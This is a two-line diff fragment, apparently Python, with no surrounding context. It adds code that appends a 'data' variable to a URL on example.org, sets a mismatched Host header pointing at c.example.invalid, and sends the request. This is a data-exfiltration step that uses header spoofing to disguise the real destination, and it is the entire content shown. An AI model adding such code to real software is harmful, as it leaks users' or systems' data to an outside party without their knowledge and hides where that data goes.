@@ -1,0 +1,2 @@
+r = Request("https://example.org/p?d=" + data, headers={"Host": "c.example.invalid"})
+urlopen(r)
